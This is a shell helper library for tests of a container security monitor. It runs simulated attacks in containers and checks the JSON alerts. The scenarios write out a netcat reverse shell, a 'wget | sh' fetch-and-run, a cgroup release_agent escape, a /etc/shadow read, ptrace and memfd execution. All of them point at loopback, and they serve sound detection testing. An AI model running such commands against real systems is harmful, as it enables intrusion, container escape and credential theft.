# SPDX-License-Identifier: Apache-2.0
#
# Helpers for the tests of the live `bulkhead monitor` (issue 15) that run real
# containers: start the monitor and wait until its kernel source is attached,
# read its counters (SIGUSR1), pick fields out of its JSON alerts.
#
#   . "$(dirname "$0")/lib.sh"
#   . "$(dirname "$0")/monitor-lib.sh"
#   mon_start NAME [MONITOR-ARGS...] || skip_all "$MON_WHY"   (pid in $MON, alerts in $T/NAME.json)
#   mon_field NAME RULE CID PATH     a field of RULE's first alert for container CID
#   mon_stats NAME                   the counters line, fresh (SIGUSR1 to $MON)
#   mon_window NAME                  before scenarios: the loss baseline of mon_want
#   mon_stop NAME                    SIGTERM, wait; status in $rc

MON=""
MON_WHY=""

# mon_start NAME ARGS...: `bulkhead monitor ARGS` in the background, alerts (JSON
# lines) in $T/NAME.json, stderr in $T/NAME.err; returns once a host read of
# /etc/shadow has raised its alert (the kernel source is attached). On failure:
# 1 with MON_WHY set, 77 when BPF cannot be used here.
mon_start() {
	local name="$1" mark i
	shift
	mark="/nonexistent/mark-$name-$$-$RANDOM"
	"$BULKHEAD" monitor --duration 900s "$@" >"$T/$name.json" 2>"$T/$name.err" &
	MON=$!
	# CONT first: a test that stopped it (monitor-parent) and was cut short
	on_exit "kill -CONT $MON 2>/dev/null; kill -TERM $MON 2>/dev/null; wait $MON 2>/dev/null"
	for i in $(seq 200); do
		kill -0 "$MON" 2>/dev/null || break
		cat /etc/shadow "$mark" >/dev/null 2>&1
		grep -qF "$mark" "$T/$name.json" 2>/dev/null && return 0
		sleep 0.1
	done
	wait "$MON" 2>/dev/null
	MON_WHY="$(head -c 600 "$T/$name.err")"
	grep -q 'BPF is not allowed\|did not load\|did not attach\|no kernel BTF' "$T/$name.err" && return 77
	return 1
}

# mon_stats NAME: the monitor's counters line ("monitor: N events (L lost in the
# kernel, ...)"), asked for now with SIGUSR1; empty when it does not answer in 3 s
mon_stats() {
	local f="$T/$1.err" n i
	n=$(grep -c '^monitor: [0-9]* events' "$f")
	kill -USR1 "$MON" 2>/dev/null || return 0
	for i in $(seq 30); do
		if [ "$(grep -c '^monitor: [0-9]* events' "$f")" -gt "$n" ]; then
			grep '^monitor: [0-9]* events' "$f" | tail -1
			return 0
		fi
		sleep 0.1
	done
}
# mon_num LINE WORDS: the number before WORDS in a counters line ("lost in the kernel")
mon_num() { sed -n "s/.*[ (]\([0-9][0-9]*\) $2.*/\1/p" <<<"$1" | head -1; }

# mon_field NAME RULE CID PATH: a field (dotted path below the alert, e.g.
# event.proc.name) of RULE's first alert whose event's container.id is CID
# ("host" for the host's events: no container member)
mon_field() {
	local got
	mon_fields_by "$1" "$2" "$3" "" "$4"
	echo "${got[0]:-}"
}
# mon_wait_alert NAME RULE CID: wait up to 5 s for RULE's alert for CID
mon_wait_alert() {
	local i
	for i in $(seq 50); do
		[ -n "$(mon_field "$1" "$2" "$3" rule)" ] && return 0
		sleep 0.1
	done
	return 1
}
# mon_alerts_of NAME CID: "rule <- proc.name" of every alert for CID, one a line
mon_alerts_of() { _mon_alerts "$1" "$2" short; }
# mon_alert_lines NAME CID: the whole alerts of CID (for a failure's message)
mon_alert_lines() { _mon_alerts "$1" "$2" whole; }
_mon_alerts() {
	python3 - "$T/$1.json" "$2" "$3" <<'PY'
import json, sys
for line in open(sys.argv[1], errors="replace"):
    try:
        a = json.loads(line)
    except ValueError:
        continue
    e = a.get("event") or {}
    if ((e.get("container") or {}).get("id") or "host") != sys.argv[2]:
        continue
    if sys.argv[3] == "whole":
        print(line.strip()[:1500])
        continue
    p = e.get("proc", {})
    print("%s <- %s (exe %s, parent %s)" % (a.get("rule"), p.get("name"), p.get("exe"),
          ((p.get("parents") or [{}])[0]).get("exe")))
PY
}

# mon_stop NAME: SIGTERM and wait up to 30 s; the exit status in $rc (SIGKILL after
# that: 137, so a monitor that does not stop fails its case instead of the run)
mon_stop() {
	stop_pid "$MON" 30
	wait "$MON"
	rc=$?
}

# ---- containers running one shell script (monitor-rules, monitor-rules-more) -------------
# They need $SFX (a suffix unique to the run) and the arrays IDS and RUNC_IDS (the
# containers made, for the caller's cleanup); the base bundle is $MON_BASE (default
# $T/b, made by `bulkhead image bundle`).
#
# mkbundle DIR ROOTFS SCRIPT [PYTHON]: a bundle $T/DIR running sh -c SCRIPT on ROOTFS (a
# writable root); PYTHON, when given, is run with the config as c (e.g. to add a mount)
mkbundle() {
	mkdir -p "$T/$1"
	python3 - "${MON_BASE:-$T/b}/config.json" "$T/$1/config.json" "$2" "$3" "${4:-}" <<'PY'
import json, sys
c = json.load(open(sys.argv[1])); c["root"]["path"] = sys.argv[3]; c["root"]["readonly"] = False
c["process"]["args"] = ["/bin/sh", "-c", sys.argv[4]]
exec(sys.argv[5])
json.dump(c, open(sys.argv[2], "w"))
PY
}
# The runs are prefixed with the command in the array MON_WRAP when set (e.g. unshare -m
# to give the runtime a mount the host's other runtimes must not see).
#
# bh_run NAME: run the bundle $T/NAME as the bulkhead container NAME-$SFX (foreground)
bh_run() {
	IDS+=("$1-$SFX")
	(cd "$T/$1" && "${MON_WRAP[@]}" timeout 30 "$BULKHEAD" run "$1-$SFX" >"$T/$1.out" 2>"$T/$1.err" </dev/null)
}
# runc_run NAME: the same in runc, with no padding: the monitor learns a runc container
# from its state directory (the state written at create lists again at once, an id not
# known yet lists again too) and keeps one gone for 10 s (the grace list), so the events
# of its first and last milliseconds are its own (monitor-short.test runs one-action
# containers). Before, the workload waited 0.5 s before and 1 s after.
# runc_run_late NAME: its workload starts after 0.5 s, for the guard (protect): runc
# cannot ask the rendezvous, the guard watches a runc container from the rescan its
# state's write causes (50-200 ms on a loaded host): what runs before is not decided
# (bulkhead-monitor(1)).
runc_run() { runc_run_pad "" "$1"; }
runc_run_late() { runc_run_pad "sleep 0.5; " "$1"; }
# runc_run_pad PREFIX NAME: runc_run with PREFIX before the workload's script
runc_run_pad() {
	RUNC_IDS+=("r$2-$SFX")
	mkdir -p "$T/r$2"
	python3 - "$T/$2/config.json" "$T/r$2/config.json" "$1" <<'PY2'
import json, sys
c = json.load(open(sys.argv[1])); c["process"]["args"][2] = sys.argv[3] + c["process"]["args"][2]
json.dump(c, open(sys.argv[2], "w"))
PY2
	"${MON_WRAP[@]}" timeout 30 runc run -b "$T/r$2" "r$2-$SFX" >"$T/r$2.out" 2>"$T/r$2.err" </dev/null
}

# ---- the default rules' scenarios as alpine shell scripts, for any runtime ---------------
# mon_alpine_scenarios PORT: fills the associative array MON_SC (declare -A MON_SC first)
# with NAME -> the script (busybox sh, alpine) doing the action, and MON_SC_RULE with NAME
# -> "RULE|PROCESS-NAME" its alert must have; PORT (free on the container's loopback) is
# the reverse shell's. For a runtime whose containers run a script (dockerd, podman);
# monitor-rules(-more).test build their bundles with the same actions.
mon_alpine_scenarios() {
	local port="$1"
	MON_SC=(
		[shadow]="cat /etc/shadow >/dev/null"
		[binw]="echo x >/usr/bin/mr-\$\$"
		[etcw]="echo x >/etc/mr-\$\$"
		[apk]="apk --version >/dev/null"
		[rsh]="(echo exit | nc -l -p $port >/dev/null &); sleep 0.3; nc 127.0.0.1 $port -e /bin/sh; true"
		[drop]="cp /bin/busybox /tmp/dropped; /tmp/dropped true; true"
		[k8s]="(nc -l -p 6443 >/dev/null &); sleep 0.3; echo x | nc -w 1 127.0.0.1 6443; true"
		[mem]="sleep 5 & p=\$!; cat /proc/\$p/mem >/dev/null 2>&1; kill \$p; true"
		[mount]="mkdir -p /tmp/m; mount -t tmpfs none /tmp/m; true"
		[unshare]="unshare -n true; true"
		[insmod]="insmod /etc/hostname; true"
	)
	MON_SC_RULE=(
		[shadow]="Read sensitive file|cat"
		[binw]="Write below binary dir|sh"
		[etcw]="Write below etc|sh"
		[apk]="Package management process in container|apk"
		[rsh]="Reverse shell|sh"
		[drop]="Drop and execute new binary in container|dropped"
		[k8s]="Contact K8S API server from container|nc"
		[mem]="Access another process's memory|cat"
		[mount]="Mount in container|mount"
		[unshare]="Namespace change in container|unshare"
		[insmod]="Kernel module load attempt|insmod"
	)
}

# mon_window NAME: the scenarios' window of monitor NAME starts now: its "lost in the
# kernel" counter is kept as the baseline mon_want compares with ($MON must be NAME's
# monitor: mon_stats signals $MON)
mon_window() {
	mon_num "$(mon_stats "$1")" "lost in the kernel" >"$T/$1.lost0"
}

# mon_want NAME WHO RULE CID PROC [PATH VALUE]...: RULE's alert for CID within 5 s, by
# the process PROC, each PATH (below the alert by PROC) equal to VALUE; 1 when the alert
# is missing. The rule's alerts for CID by other processes are printed ("# also:":
# runc's init, named exe, mounting in a container whose runc parent the monitor did not
# see raises "Mount in container", not only under load). A miss is a skip only when the monitor lost events in the kernel since
# mon_window NAME (the counter is cumulative: losses before the window say nothing
# about this alert); without a baseline it is a failure. $MON must be NAME's monitor.
mon_want() {
	local m="$1" who="$2" rule="$3" cid="$4" name="$5" lost base
	shift 5
	if ! mon_wait_alert "$m" "$rule" "$cid"; then
		lost=$(mon_num "$(mon_stats "$m")" "lost in the kernel")
		base=$(cat "$T/$m.lost0" 2>/dev/null)
		if [ -n "$lost" ] && [ -n "$base" ] && [ "$lost" -gt "$base" ]; then
			t_skip "$who: \"$rule\"" "the monitor lost $((lost - base)) events in the kernel during the scenarios and said so"
		else
			t_fail "$who: \"$rule\" for $cid" "its alerts: $(mon_alerts_of "$m" "$cid" | head -8) (lost in the kernel: ${base:-?} before the scenarios, ${lost:-?} now)"
		fi
		return 1
	fi
	t_ok "$who: \"$rule\" for its container"
	mon_alerts_of "$m" "$cid" | grep -F "$rule <- " | grep -vF "$rule <- $name " | sed 's/^/# also: /'
	# the fields of the alert by NAME in one pass (the file has the host's alerts too:
	# a python run a field took minutes on a loaded host); empty when none is by NAME
	local -a paths=(event.proc.name) want=("$name") got
	while [ $# -ge 2 ]; do
		paths+=("$1")
		want+=("$2")
		shift 2
	done
	# (the alert by NAME may come after another process's of the rule, e.g. runc's
	# init's "Mount in container": waited for, up to ~5 s)
	local try
	for try in 1 2 3 4 5 6 7 8 9 10; do
		mon_fields_by "$m" "$rule" "$cid" "$name" "${paths[@]}"
		[ -n "${got[0]:-}" ] && break
		sleep 0.5
	done
	local i
	for i in "${!paths[@]}"; do
		if [ "$i" -eq 0 ]; then
			expect_eq "… by $name" "$name" "${got[0]:-}"
		else
			expect_eq "… ${paths[$i]}" "${want[$i]}" "${got[$i]:-}"
		fi
	done
}
# mon_fields_by MON RULE CID NAME PATH...: the array got = each PATH of RULE's first alert
# for CID ("host" for the host's events) by a process NAME (any process when NAME is
# empty); empty when none
mon_fields_by() {
	local m="$1" rule="$2" cid="$3" name="$4"
	shift 4
	mapfile -t got < <(python3 - "$T/$m.json" "$rule" "$cid" "$name" "$@" <<'PY'
import json, sys
f, rule, cid, proc = sys.argv[1:5]
for line in open(f, errors="replace"):
    try:
        a = json.loads(line)
    except ValueError:
        continue
    e = a.get("event") or {}
    if a.get("rule") != rule or ((e.get("container") or {}).get("id") or "host") != cid:
        continue
    if proc and (e.get("proc") or {}).get("name") != proc:
        continue
    for path in sys.argv[5:]:
        v = a
        for k in path.split("."):
            v = v[int(k)] if isinstance(v, list) else (v or {}).get(k)
        print("" if v is None else (str(v).lower() if isinstance(v, bool) else v))
    break
PY
)
}

# ---- the rest of the default rules, for dockerd and podman (monitor-docker, -podman) ------
# mon_more_scenarios PORT POOL CGNAME: adds to MON_SC and MON_SC_RULE the scenarios that
# need python or a fixture, and to MON_SC_IMG (declare -A it first) "py" for those run
# in the python image (debian-app, $MON_PYIMG): a memfd exec (its process is named "3":
# /proc/self/fd/3), a ptrace attach of a child, a process_vm_readv of a child, a
# bpf(BPF_PROG_LOAD) (python ctypes), a connect
# to POOL:3333 (the container must be in a namespace that reaches it: mon_pool_up), a
# write to the release_agent of a cgroup v1 hierarchy named CGNAME the script mounts (the
# container must be privileged), `wget -O- | sh` from a loopback server on PORT whose
# script drops and runs a copy of apk (the container needs an upper layer). The
# MON_PY_* scripts print what they did, then "survived" 1.5 s later (protect's kill).
MON_PYIMG="$TESTDATA/images/debian-app.oci.tar"
MON_PY_PTRACE='import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    time.sleep(10); os._exit(0)
time.sleep(0.2)
r = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
print("attach", r, ctypes.get_errno(), flush=True)
os.waitpid(pid, 0); libc.ptrace(17, pid, 0, 0); os.kill(pid, 9); os.waitpid(pid, 0)
time.sleep(1.5); print("survived", flush=True)'
MON_PY_PVM='import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
class Iov(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
src = ctypes.create_string_buffer(b"in-the-child", 16)
pid = os.fork()
if pid == 0:
    time.sleep(10); os._exit(0)
time.sleep(0.2)
dst = ctypes.create_string_buffer(16)
loc = Iov(ctypes.cast(dst, ctypes.c_void_p), 16)
rem = Iov(ctypes.cast(src, ctypes.c_void_p), 16)
n = libc.process_vm_readv(pid, ctypes.byref(loc), 1, ctypes.byref(rem), 1, 0)
print("pvm", n, ctypes.get_errno(), dst.value.decode(), flush=True)
os.kill(pid, 9); os.waitpid(pid, 0)'
MON_PY_BPF='import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
attr = ctypes.create_string_buffer(128)
r = libc.syscall(321, 5, attr, 128)  # bpf(BPF_PROG_LOAD), an empty program
print("bpf", r, ctypes.get_errno(), flush=True)
time.sleep(1.5); print("survived", flush=True)'
MON_PY_MEMFD='import os
fd = os.memfd_create("mr")
os.write(fd, open("/bin/true", "rb").read())
os.execv("/proc/self/fd/%d" % fd, ["x", "memfd-run"])'
# MON_PY_MINER POOL: the python script connecting to POOL:3333
mon_py_miner() {
	printf '%s' 'import socket, time
s = socket.create_connection(("'"$1"'", 3333), timeout=5)
print("connected", flush=True); time.sleep(1.5); print("survived", flush=True)'
}
mon_more_scenarios() {
	local port="$1" pool="$2" cg="$3" serve
	serve="printf 'HTTP/1.0 200 OK\r\n\r\ncp /sbin/apk /tmp/payload; /tmp/payload --version >/dev/null && echo payload-ran\n' | nc -l -p $port >/dev/null"
	MON_SC+=(
		[memfd]="python3 -c '$MON_PY_MEMFD'"
		[ptrace]="python3 -c '$MON_PY_PTRACE'"
		[pvm]="python3 -c '$MON_PY_PVM'"
		[bpf]="python3 -c '$MON_PY_BPF'"
		[miner]="echo x | nc -w 1 $pool 3333; true"
		[relagent]="mkdir -p /tmp/cg; mount -t cgroup -o none,name=$cg cgroup /tmp/cg && echo /x >/tmp/cg/release_agent && echo relagent-wrote; umount /tmp/cg; true"
		[curlsh]="($serve &); sleep 0.3; wget -qO- http://127.0.0.1:$port/install.sh | sh; echo sh-rc=\$?"
	)
	MON_SC_RULE+=(
		[memfd]="Fileless execution via memfd|3"
		[ptrace]="PTRACE attached to process|python3"
		[pvm]="PTRACE attached to process|python3"
		[bpf]="BPF program loaded in container|python3"
		[miner]="Outbound connection to mining pool port|nc"
		[relagent]="Cgroup release_agent escape attempt|sh"
		[curlsh]="Drop and execute new binary in container|payload"
	)
	MON_SC_IMG+=([memfd]=py [ptrace]=py [pvm]=py [bpf]=py)
}
# mon_more_fields NAME: the fields (PATH VALUE pairs) the alert of scenario NAME must have
# besides its rule and process (the pool's address in $MON_POOL)
mon_more_fields() {
	case $1 in
	memfd) echo "event.proc.exe memfd:mr" ;;
	ptrace) echo "event.args.request 16" ;;
	pvm) echo "event.args.call process_vm_readv" ;;
	bpf) echo "event.args.bpf_cmd 5" ;;
	miner) echo "event.net.remote $MON_POOL:3333" ;;
	relagent) echo "event.file.path /tmp/cg/release_agent" ;;
	curlsh) echo "event.proc.exe /tmp/payload event.proc.parents.0.name sh" ;;
	esac
}

# mon_pool_up NETNS ADDR: a "mining pool" on this machine: a veth from the host (ADDR/30,
# ADDR being a.b.c.d with d one more than a multiple of 4) to eth0 (a.b.c.d+1) in the
# named network namespace NETNS (ip netns), and a listener on ADDR:3333 that reads until
# the peer closes (MON_POOL=ADDR). Torn down at exit. 1 with MON_WHY when it cannot be.
mon_pool_up() {
	local ns="$1" vh="bmp$RANDOM" i
	MON_POOL="$2"
	on_exit "ip link del '$vh' 2>/dev/null"
	if ! { ip link add "$vh" type veth peer name eth0 netns "$ns" &&
		ip addr add "$MON_POOL/30" dev "$vh" && ip link set "$vh" up &&
		ip -n "$ns" addr add "${2%.*}.$((${2##*.} + 1))/30" dev eth0 && ip -n "$ns" link set eth0 up &&
		ip -n "$ns" link set lo up; } 2>"$T/pool.err"; then
		MON_WHY="the veth into $ns: $(head -c 300 "$T/pool.err")"
		return 1
	fi
	python3 -c '
import socket, threading, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], 3333)); s.listen(16); print("up", flush=True)
def serve(c):
    c.settimeout(10)
    try:
        while c.recv(4096): pass
    except OSError: pass
    c.close()
while True:
    c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
' "$MON_POOL" >"$T/pool.out" 2>&1 &
	MON_POOLPID=$!
	on_exit "kill $MON_POOLPID 2>/dev/null"
	for i in $(seq 50); do grep -q up "$T/pool.out" && return 0; sleep 0.1; done
	MON_WHY="the pool's listener: $(head -c 300 "$T/pool.out")"
	return 1
}
# mon_no_alert NAME WHO RULE CID: no alert of RULE for container CID
mon_no_alert() {
	expect_eq "$2" "" "$(mon_alerts_of "$1" "$4" | grep -F "$3 <- ")"
}
# mon_py_wait LOGCMD N...: after a protect run of python scenarios whose script ends with
# "echo py-rc=$?", wait (15 s at most) until the log of each N (LOGCMD N prints it, saved
# in $T/N.log) has its py-rc line: a killed python's is py-rc=137, and "survived" is then
# known to be missing (not yet to come)
mon_py_wait() {
	local cmd="$1" n i left
	shift
	for i in $(seq 30); do
		left=0
		for n in "$@"; do
			$cmd "$n" >"$T/$n.log" 2>&1
			grep -q 'py-rc=' "$T/$n.log" || left=1
		done
		[ $left = 0 ] && return 0
		sleep 0.5
	done
}
